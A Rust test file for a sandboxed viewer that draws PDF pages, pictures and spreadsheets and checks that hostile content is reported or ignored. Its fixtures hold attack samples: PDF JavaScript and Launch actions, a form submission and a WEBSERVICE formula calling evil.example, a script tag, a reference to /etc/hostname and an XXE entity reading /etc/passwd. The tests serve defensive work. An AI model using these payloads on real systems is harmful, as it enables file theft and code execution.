//! What is drawn and what is read, by this process: the same code that a
//! process of its own runs (its limits are tested with the whole program).

use std::fs::File;

use rust_xlsxwriter::{Formula, Workbook};

use super::book::{MAX_CELL_CHARS, MAX_COLUMNS, MAX_ROWS, MAX_SHEETS};
use super::child::{Order, answer};
use super::*;
use crate::evidence::sniff::fixtures::{self, archive, content_types, pdf_of, pdf_pages};

fn order(kind: EvidenceKind, ask: Ask) -> Order {
    Order { media_type: kind.media_type().to_owned(), size_bytes: 0, font: None, limits: LIMITS, ask }
}

fn page_of(content: &[u8], part: u32, width: u32, turn: u16) -> std::result::Result<(Shown, Vec<u8>), ViewFault> {
    answer(&order(EvidenceKind::Pdf, Ask { part, width, turn }), content.to_vec(), None)
}

fn sheet_of(content: &[u8], part: u32) -> std::result::Result<Table, ViewFault> {
    let ask = Ask { part, width: PAGE_WIDTH, turn: 0 };
    let (shown, png) = answer(&order(EvidenceKind::Xlsx, ask), content.to_vec(), None)?;
    assert!(png.is_empty() && shown.size.is_none());
    Ok(shown.table.unwrap())
}

fn is_red(png: &[u8], x: u32, y: u32) -> bool {
    image::load_from_memory(png).unwrap().to_rgb8().get_pixel(x, y).0 == [255, 0, 0]
}

#[test]
fn a_page_is_drawn_as_wide_as_asked_and_turned() {
    let file = pdf_pages(3, "", "");
    // The square is a quarter of the page, at its top left; it moves clockwise.
    for (turn, size, red, white) in [
        (0, (100, 200), (10, 10), (90, 10)),
        (90, (100, 50), (90, 10), (10, 10)),
        (180, (100, 200), (90, 190), (10, 10)),
        (270, (100, 50), (10, 40), (90, 40)),
    ] {
        let (shown, png) = page_of(&file, 2, 100, turn).unwrap();
        assert_eq!((shown.parts, shown.size), (3, Some(size)), "{turn}");
        assert!(is_red(&png, red.0, red.1) && !is_red(&png, white.0, white.1), "{turn}");
        assert_eq!(shown.notices, []);
    }
    assert_eq!(page_of(&file, 4, 100, 0), Err(ViewFault::NoSuchPart));
}

#[test]
fn pages_that_cannot_be_drawn_are_told_and_large_ones_made_smaller() {
    assert_eq!(page_of(b"%PDF-1.7\nnothing\n%%EOF", 1, 100, 0).err(), Some(ViewFault::Broken));
    assert_eq!(page_of(&fixtures::pdf(""), 1, 100, 0).err(), Some(ViewFault::Broken), "no page");
    for (media_box, longest) in
        [("[0 0 1 100000]", 8_000), ("[0 0 14400 14400]", 3_200), ("[0 0 1e30 1e30]", 8_000), ("[0 0 0 0]", 8_000)]
    {
        let file = pdf_pages(1, "", &format!("/MediaBox{media_box}"));
        if let Ok((shown, _)) = page_of(&file, 1, LARGE_WIDTH, 0) {
            let (width, height) = shown.size.unwrap();
            assert!(width.max(height) <= longest && width > 0 && height > 0, "{media_box}: {width} × {height}");
        }
    }
}

#[test]
fn scripts_and_actions_are_told_of_wherever_they_hide_and_links_are_not() {
    let with = |catalogue: &str, page: &str| page_of(&pdf_pages(1, catalogue, page), 1, 50, 0).unwrap().0.notices;
    for (catalogue, page) in [
        ("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", ""),
        ("/Names<</JavaScript<</Names[(a) 9 0 R]>>>>", ""),
        ("/OpenAction<</S/Launch/F(calc.exe)>>", ""),
        ("", "/AA<</O<</S/SubmitForm/F(http://evil.example/)>>>>"),
        ("", "/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/#4aavaScript/J#53(1)>>>>]"),
    ] {
        assert_eq!(with(catalogue, page), [Notice::Scripts], "{catalogue}{page}");
    }
    let link = "/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://evil.example/)>>>>]";
    assert_eq!(with("", link), []);
}

#[test]
fn a_file_that_points_into_itself_or_outside_ends() {
    let looped = pdf_of(&[
        "<</Type/Catalog/Pages 2 0 R>>".into(),
        "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9>>".into(),
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>".into(),
        "<</Length 5>>\nstream\n/X Do\nendstream".into(),
        "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length 5>>\nstream\n/X Do\nendstream"
            .into(),
    ]);
    let _ = page_of(&looped, 1, 50, 0);
    let outside = pdf_of(&[
        "<</Type/Catalog/Pages 2 0 R>>".into(),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>".into(),
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>".into(),
        "<</Length 5>>\nstream\n/X Do\nendstream".into(),
        "<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray\
         /F(/etc/hostname)/FFilter[]/Length 0>>\nstream\n\nendstream"
            .into(),
    ]);
    assert!(page_of(&outside, 1, 50, 0).is_ok(), "the page is shown without it");
}

/// As many programs write it: the letters of MS-Mincho are left to the reader.
fn without_font() -> Vec<u8> {
    let text = "BT /F 40 Tf 10 100 Td <627F> Tj ET";
    pdf_of(&[
        "<</Type/Catalog/Pages 2 0 R>>".into(),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>".into(),
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>".into(),
        format!("<</Length {}>>\nstream\n{text}\nendstream", text.len()),
        "<</Type/Font/Subtype/Type0/BaseFont/MS-Mincho/Encoding/UniJIS-UTF16-H/DescendantFonts[6 0 R]>>".into(),
        "<</Type/Font/Subtype/CIDFontType2/BaseFont/MS-Mincho/DW 1000/FontDescriptor 7 0 R\
         /CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 4>>>>"
            .into(),
        "<</Type/FontDescriptor/FontName/MS-Mincho/Flags 6/FontBBox[0 -137 1000 859]/ItalicAngle 0\
         /Ascent 859/Descent -137/CapHeight 700/StemV 80>>"
            .into(),
    ])
}

#[test]
fn letters_that_a_file_leaves_out_come_from_our_font_or_are_told_of() {
    let file = without_font();
    assert_eq!(page_of(&file, 1, 200, 0).unwrap().0.notices, [Notice::NoFont]);
    let Some(font) = crate::pdf::font::place(None) else {
        eprintln!("left out: no font with Japanese letters on this machine");
        return;
    };
    let ask = Ask { part: 1, width: 200, turn: 0 };
    let drawn = answer(&order(EvidenceKind::Pdf, ask), file, Some(File::open(font).unwrap())).unwrap();
    assert_eq!(drawn.0.notices, []);
    let inked = image::load_from_memory(&drawn.1).unwrap().to_luma8().pixels().filter(|p| p.0[0] < 128).count();
    assert!(inked > 500, "{inked} dark pixels are no 承");
}

#[test]
fn a_picture_is_no_wider_than_asked_and_never_blown_up() {
    let picture = |width, turn| {
        let order = order(EvidenceKind::Png, Ask { part: 1, width, turn });
        answer(&order, fixtures::png(400, 200), None).unwrap()
    };
    let (shown, png) = picture(100, 0);
    assert_eq!(shown.size, Some((100, 50)));
    assert!(is_red(&png, 10, 10) && !is_red(&png, 90, 10));
    let (shown, png) = picture(3_200, 90);
    assert_eq!(shown.size, Some((200, 400)));
    assert!(is_red(&png, 10, 10) && !is_red(&png, 10, 390), "its left is now its top");
    assert!(answer(&order(EvidenceKind::Png, Ask { part: 1, width: 9, turn: 0 }), b"\x89PNG".to_vec(), None).is_err());
}

#[test]
fn a_book_shows_what_it_keeps_and_runs_nothing() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet().set_name("一覧").unwrap();
    sheet.write(0, 0, "施設").unwrap();
    sheet.write(2, 1, 41.5).unwrap();
    let formula = Formula::new("=WEBSERVICE(\"http://evil.example/\")").set_result("前に計算した値");
    sheet.write(2, 2, formula).unwrap();
    sheet.write(3, 0, "a\u{202E}b\0c<script>alert(1)</script>").unwrap();
    book.add_worksheet().set_name("隠し").unwrap().set_hidden(true);
    let content = book.save_to_buffer().unwrap();

    let table = sheet_of(&content, 1).unwrap();
    let names: Vec<(&str, bool)> = table.sheets.iter().map(|sheet| (sheet.name.as_str(), sheet.hidden)).collect();
    assert_eq!(names, [("一覧", false), ("隠し", true)]);
    let numbers: Vec<u32> = table.rows.iter().map(|row| row.number).collect();
    assert_eq!((numbers, table.letters()), (vec![1, 3, 4], ["A", "B", "C"].map(String::from).to_vec()));
    assert_eq!(table.rows[1].cells[1].text, "41.5");
    let cell = &table.rows[1].cells[2];
    assert_eq!((cell.text.as_str(), cell.formula.as_str()), ("前に計算した値", "WEBSERVICE(\"http://evil.example/\")"));
    assert_eq!(table.rows[2].cells[0].text, "a\u{FFFD}b\u{FFFD}c<script>alert(1)</script>");
    assert_eq!(table.left_out, book::LeftOut::default());
    assert!(sheet_of(&content, 2).unwrap().rows.is_empty());
    assert_eq!(sheet_of(&content, 3), Err(ViewFault::NoSuchPart));
}

#[test]
fn a_book_without_measure_is_cut_and_it_says_so() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for row in 0..=MAX_ROWS as u32 {
        sheet.write(row, 0, row).unwrap();
    }
    sheet.write(0, MAX_COLUMNS as u16, "beyond").unwrap();
    sheet.write(1, 1, "長".repeat(MAX_CELL_CHARS + 1)).unwrap();
    for _ in 0..MAX_SHEETS {
        book.add_worksheet();
    }
    let table = sheet_of(&book.save_to_buffer().unwrap(), 1).unwrap();
    assert_eq!((table.rows.len(), table.columns, table.sheets.len()), (MAX_ROWS, 2, MAX_SHEETS));
    assert_eq!(table.rows[1].cells[1].text.chars().count(), MAX_CELL_CHARS);
    assert_eq!(table.left_out, book::LeftOut { sheets: 1, rows: true, columns: true, texts: true });
}

#[test]
fn entities_of_a_book_are_not_looked_up() {
    let sheet = r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;root</t></is></c></row></sheetData></worksheet>"#;
    let book = |sheet: &str| {
        archive(&[
        ("[Content_Types].xml", content_types(fixtures::WORKBOOK).as_bytes()),
        (
            "_rels/.rels",
            br#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
        ),
        (
            "xl/workbook.xml",
            br#"<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>"#,
        ),
        (
            "xl/_rels/workbook.xml.rels",
            br#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#,
        ),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
    ])
    };
    assert_eq!(sheet_of(&book(sheet), 1), Err(ViewFault::Broken), "an entity is no text");
    assert_eq!(sheet_of(&book(&sheet.replace("&e;", "")), 1).unwrap().rows[0].cells[0].text, "root");
}

#[test]
fn what_was_kept_of_the_order_and_the_answer_reads_back() {
    let order = order(EvidenceKind::Pdf, Ask { part: 3, width: 1_600, turn: 90 });
    let read: Order = serde_json::from_str(&serde_json::to_string(&order).unwrap()).unwrap();
    assert_eq!((read.ask, read.media_type), (order.ask, order.media_type));
    let line = serde_json::to_string(&sheet_of(&Workbook::new().save_to_buffer().unwrap(), 1).ok());
    assert!(!line.unwrap().contains('\n'), "one line, then the picture");
}
